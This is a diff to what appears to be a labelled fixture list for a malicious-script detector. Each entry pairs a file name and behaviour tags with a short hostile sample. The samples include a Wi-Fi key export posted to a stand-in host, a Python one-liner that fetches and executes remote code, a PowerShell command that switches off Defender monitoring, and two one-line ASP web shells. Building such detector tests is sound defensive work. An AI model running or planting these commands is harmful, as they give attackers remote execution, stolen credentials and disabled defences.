@@ -118,4 +118,18 @@ export const operations: readonly Suspect[] = [
     ['script_steals_secrets', 'script_sends_secrets_away'],
     'netsh wlan export profile key=clear folder="$env:TEMP"\nInvoke-RestMethod https://files.example/in -Method Post -InFile "$env:TEMP\\Wi-Fi-home.xml"\n',
   ),
+  text(
+    'screen-away.sh',
+    'suspicious',
+    ['script_runs_downloaded_text'],
+    '#!/bin/bash\npython3 -c "import urllib.request;exec(urllib.request.urlopen(\'http://203.0.113.7/boot.py\').read())"\n',
+  ),
+  text(
+    'scans-off.ps1',
+    'suspicious',
+    ['script_disables_defences'],
+    'Set-MpPreference -DisableCatchupFullScan $true -DisableRealtimeMonitoring $true\n',
+  ),
+  text('short.asp', 'malicious', ['script_is_web_shell'], '<%execute request("a")%>\n'),
+  text('short-2.asp', 'malicious', ['script_is_web_shell'], '<%eval(Request.Item("a"))%>\n'),
 ]
